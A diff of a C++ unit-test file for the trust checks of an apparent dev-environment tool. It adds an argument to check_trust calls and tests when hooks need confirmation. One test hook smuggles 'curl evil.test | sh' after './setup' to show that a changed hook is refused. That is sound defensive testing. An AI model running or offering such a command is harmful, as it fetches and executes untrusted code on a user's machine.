@@ -30,7 +30,7 @@ TEST(Trust, WhatStaysInTheContainerNeedsNone) {
                        {.type = "bind", .source = clone.folder.path + "/sub", .target = "/sub"}};
   clone.plan.privileged = true;  // of the user's own namespace
   EXPECT_THAT(asks_of_machine(clone.plan, clone.record, false), IsEmpty());
-  EXPECT_TRUE(check_trust(clone.plan, clone.record, false, false));
+  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
 }
 
 TEST(Trust, WhatIsOutsideIsNamed) {
@@ -50,22 +50,22 @@ TEST(Trust, WhatIsOutsideIsNamed) {
 TEST(Trust, IsAskedForOnceAndAgainWhenMoreIsAsked) {
   Clone clone;
   clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup", {}}}};
-  auto asked = check_trust(clone.plan, clone.record, false, false);
+  auto asked = check_trust(clone.plan, clone.record, &Record::trusted, false, false);
   ASSERT_FALSE(asked);
   EXPECT_EQ(asked.error().kind, Kind::needs_confirmation);
   EXPECT_EQ(asked.error().hint,
             "run here: ./setup\ndevenv up --trust https://git.example.org/acme/web allows it");
-  EXPECT_TRUE(check_trust(clone.plan, clone.record, false, true));
-  EXPECT_TRUE(check_trust(clone.plan, clone.record, false, false));
+  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, true));
+  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
   clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup; curl evil.test | sh", {}}}};
-  EXPECT_FALSE(check_trust(clone.plan, clone.record, false, false));
+  EXPECT_FALSE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
 }
 
 TEST(Trust, AFolderOfOnesOwnIsTrusted) {
   Clone clone;
   clone.record.local = true;
   clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup", {}}}};
-  EXPECT_TRUE(check_trust(clone.plan, clone.record, true, false));
+  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, true, false));
 }
 
 }  // namespace
